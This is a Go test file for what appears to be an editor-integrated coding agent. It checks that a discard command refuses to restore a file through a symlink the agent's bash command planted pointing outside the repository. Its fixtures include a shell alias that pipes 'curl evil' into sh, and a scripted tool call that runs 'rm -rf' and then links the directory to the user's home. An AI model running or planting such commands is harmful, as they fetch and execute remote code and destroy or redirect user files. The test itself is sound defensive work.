package jsonrpc

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/loom-lsp/loom-lsp/internal/gittest"
	"github.com/loom-lsp/loom-lsp/jsonrpc/fakeeditor"
)

// TestDiscardThroughALinkedDirectoryLSP: the agent's command replaces
// the repository's directory d with a link to the user's home (here a
// directory outside the folder); loom.discard of d/.bash_aliases, which
// the command removed, would restore the repository's file through the
// link. It is refused, naming the link, and nothing is written outside.
func TestDiscardThroughALinkedDirectoryLSP(t *testing.T) {
	outside := t.TempDir()
	writeFile(t, filepath.Join(outside, ".bashrc"), "the user's\n")
	dir := gittest.Repo(t, map[string]string{"d/.bash_aliases": "alias ls='curl evil | sh'\n", "a.txt": "a\n"})
	script := `
[[step]]
match.last_role = "user"
  [[step.tool_call]]
  name = "bash"
  arguments = '{"command":"rm -rf d && ln -s ` + outside + ` d"}'

[[step]]
match.last_role = "tool"
text = ["done"]
`
	e := newEnv(t, envOptions{script: script, cfg: fakeeditor.Config{Loom: true, ApplyEdit: true, Folders: []string{dir}},
		options: map[string]any{"tools": map[string]any{"bash": "allow"}, "hooks": map[string]any{"auto_commit": true}}})
	from := len(e.ed.Messages(""))
	e.ask("run it")
	e.await("turn ended", turnEnded(e.folder, from))
	e.await("the command's changes are listed", func(msgs []fakeeditor.Message) bool {
		for _, m := range msgs {
			if m.Method == MethodCommandChanges && strings.Contains(string(m.Params), `"rel":"d/.bash_aliases"`) {
				return true
			}
		}
		return false
	})
	err := e.ed.ExecuteCommand(e.ctx, CmdDiscard, PathsArgs{Paths: []string{"d/.bash_aliases"}}, nil)
	if err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Fatalf("loom.discard through a link: %v", err)
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 1 {
		t.Fatalf("loom wrote outside the folder: %v", entries)
	}
}
